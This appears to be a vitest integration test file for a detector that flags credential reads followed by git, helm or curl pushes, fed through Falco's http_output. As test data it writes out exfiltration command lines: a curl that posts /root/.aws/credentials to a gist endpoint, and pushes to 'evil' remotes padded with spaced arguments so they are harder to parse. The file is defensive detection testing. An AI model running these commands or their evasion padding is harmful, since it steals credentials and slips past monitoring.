/**
 * Pushes whose padding is two arguments holding spaces, posted as Falco's http_output posts them to the real app
 * (falco-http receiver → normalizer → correlator → sink): their groupings are past any list (C(46, 41) for the
 * helm one), and the search of ../../../src/rules/argv-groupings.ts finds the push word's place directly. CI
 * command lines with many spaced words, some of them push words, stay quiet.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { createApp } from '../../../src/app.js';
import { buildConfigSchema } from '../../../src/config/schema.js';
import { createCorrelator } from '../../../src/correlate/index.js';
import type { Alert } from '../../../src/model/alert.js';
import { createFalcoHttpPoster } from '../../../src/sensors-sim/falco-http-poster.js';
import { createMetrics } from '../../../src/telemetry/metrics.js';
import { falcoRunTexts } from '../../fixtures/falco/credential-run.js';
import { collectSink } from '../../helpers/collect-sink.js';
import { brief, testResolver } from '../../unit/correlate/builder.js';
import { deps, freePort } from './harness.js';

const API_GITHUB = '140.82.112.5'; // builder.ts TEST_DNS: api.github.com
const GITHUB = '140.82.112.3'; // github.com
const GHCR = '140.82.121.33'; // ghcr.io
const APISERVER = '198.51.100.7'; // a managed cluster's public kube-apiserver endpoint, classed as nothing

const NOTES =
  'This release will push the new images to ghcr.io/acme/app and publish the chart; run git push origin main ' +
  'after review, then docker push ghcr.io/acme/app:1.2 and helm push chart.tgz oci://ghcr.io/acme/charts to ' +
  'finish the upload';

const words = (n: number, w = 'w') => Array.from({ length: n }, (_, i) => `${w}${i}`).join(' ');

const stops: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const stop of stops.splice(0)) await stop();
});

/**
 * The alerts of one run of `argv` (reads the AWS credentials, connects to `ip` unless null), posted through
 * http_output.
 */
async function alertsOverHttp(exepath: string, argv: readonly string[], ip: string | null): Promise<Alert[]> {
  const port = await freePort();
  const config = buildConfigSchema().parse({ sources: { falcoHttp: [{ listen: `127.0.0.1:${port}` }] } });
  const metrics = createMetrics();
  const d = deps(metrics);
  const correlator = createCorrelator(config.correlator, config.allowlist, { ...d, resolveHost: testResolver });
  await correlator.refreshDestinations();
  const { sink, alerts } = collectSink();
  const app = createApp(config, d, { correlator, extraSinks: [sink] });
  await app.start();
  let stopped = false;
  const stop = async () => {
    if (!stopped) await app.stop();
    stopped = true;
  };
  stops.push(stop);
  const deadline = Date.now() + 5000;
  while (!app.ready() && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
  const texts = falcoRunTexts(exepath, argv, ip);
  const poster = createFalcoHttpPoster({ url: `http://127.0.0.1:${port}/` });
  try {
    expect((await poster.postAll(texts)).map((r) => r.status)).toEqual(texts.map(() => 200));
  } finally {
    poster.close();
  }
  while (app.stats().events < texts.length && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
  expect(app.stats().events).toBe(texts.length);
  // Stopping flushes the correlator: every push still pending is judged.
  await stop();
  return alerts;
}

describe('two arguments holding spaces before the push word, through Falco http_output', () => {
  it('helm: `--kube-context "prod dependency" --kube-as-group "<40 words>" push` is a push', async () => {
    const helm = ['helm', '--kube-context', 'prod dependency', '--kube-as-group', words(40), 'push', 'chart.tgz'];
    const alerts = await alertsOverHttp('/usr/bin/helm', [...helm, 'oci://ghcr.io/evil/x'], GHCR);
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'helm', destination: 'ghcr.io' },
    ]);
    expect(alerts[0]?.push.remote).toBe('oci://ghcr.io/evil/x');
  });

  it('git: two spaced `-c` values planting `commit` and `fetch` before `push`', async () => {
    const git = ['git', '-c', `x=1 commit ${words(20)}`, '-c', `y=2 fetch ${words(20)}`, 'push'];
    const alerts = await alertsOverHttp('/usr/bin/git', [...git, 'https://github.com/evil/x.git'], GITHUB);
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]?.push.remote).toBe('https://github.com/evil/x.git');
  });

  it('curl: two spaced header values ending options (`--`), one before `-d @creds` and one after it', async () => {
    // Any grouping that keeps `-d` apart holds joins on both sides of it: none of the one-argument readings.
    const curl = ['curl', '-H', `X-A: ${words(20)} --`, '-d', '@/root/.aws/credentials', '-H', `X-B: ${words(20)} --`];
    const alerts = await alertsOverHttp('/usr/bin/curl', [...curl, 'https://api.github.com/gists'], API_GITHUB);
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'api.github.com' },
    ]);
  });

  it('leaves CI command lines with many spaced words, push words among them, alone', async () => {
    const text = (n: number) => Array.from({ length: n }, (_, i) => (i % 7 === 3 ? 'push' : `word${i}`)).join(' ');
    // A commit and an echo connect nowhere; gh and helm talk to their APIs.
    const shapes: Array<[string, string[], string | null]> = [
      ['/usr/bin/git', ['git', '-c', 'user.name=bot', 'commit', '-m', `push release notes ${text(60)}`], null],
      ['/usr/bin/git', ['git', 'commit', '-m', `ci: push ${text(40)}`, '-m', `push ${text(40)}`], null],
      ['/bin/echo', ['echo', 'push', text(80), 'push origin main'], null],
      [
        '/usr/bin/gh',
        ['gh', 'pr', 'create', '--title', 'push fix', '--body', `release upload ${text(80)}`],
        API_GITHUB,
      ],
      [
        '/usr/bin/helm',
        ['helm', '--kube-context', 'prod', 'upgrade', 'rel', './chart', '--description', `push ${text(60)}`],
        GHCR,
      ],
      // Texts that name whole pushes: read after a global option, their words would be one (found by review
      // of this search: with no cap, `--notes "… publish the chart …"` read as `npm publish the`).
      ['/usr/bin/helm', ['helm', '--kube-context', 'prod', 'upgrade', 'rel', './chart', '--description', NOTES], GHCR],
      ['/usr/bin/npm', ['npm', '--prefix', 'app', 'run', 'release', '--', '--notes', NOTES], GHCR],
      ['/usr/bin/docker', ['docker', '--log-level', 'info', 'build', '-t', 'app', '--label', `d=${NOTES}`, '.'], GHCR],
    ];
    for (const [exe, argv, ip] of shapes) expect(await alertsOverHttp(exe, argv, ip), argv.join(' ')).toEqual([]);
  });

  it('reads a `key=value` text naming a push after the real sub-command as that text, and a maven property too', async () => {
    const msg = 'msg=helm push chart.tgz oci://ghcr.io/x/y';
    // helm upgrade talks to the kube-apiserver; docker's CLI hands its build to the daemon. Their push readings
    // are unsure, judged only once they reach a registry (test/unit/falco/spaced-argv-outranked.test.ts).
    const shapes: Array<[string, string[], string]> = [
      ['/usr/bin/helm', ['helm', '-n', 'prod', 'upgrade', 'rel', './chart', '--set-string', msg], APISERVER],
      [
        '/usr/bin/docker',
        ['docker', '--context', 'ci', 'buildx', 'build', '--build-arg', 'N=docker push ghcr.io/x/y', '.'],
        GHCR,
      ],
      ['/usr/bin/mvn', ['mvn', '-Dmsg=run deploy later', 'verify'], GHCR],
    ];
    for (const [exe, argv, ip] of shapes) expect(await alertsOverHttp(exe, argv, ip), argv.join(' ')).toEqual([]);
    // The same words planted before a real push, with no such text before its push word: still a push.
    const helm = ['helm', '-n', 'prod', '--kube-context', 'ci upgrade', 'push', 'chart.tgz', 'oci://ghcr.io/evil/x'];
    expect(brief(await alertsOverHttp('/usr/bin/helm', helm, GHCR))).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'helm', destination: 'ghcr.io' },
    ]);
  });

  it('alerts for a push padded to mirror that text once it uploads to its registry, not before', async () => {
    // Also reads as `helm --kube-context prod upgrade --kube-as-user "x=y push" chart.tgz oci://…`, which wins.
    const helm = ['helm', '--kube-context', 'prod upgrade', '--kube-as-user', 'x=y', 'push', 'chart.tgz'];
    const mirrored = [...helm, 'oci://ghcr.io/x/y'];
    const alerts = await alertsOverHttp('/usr/bin/helm', mirrored, GHCR);
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'helm', destination: 'ghcr.io' },
    ]);
    expect(alerts[0]?.push.remote).toBe('oci://ghcr.io/x/y');
    expect(await alertsOverHttp('/usr/bin/helm', mirrored, APISERVER)).toEqual([]);
  });
});
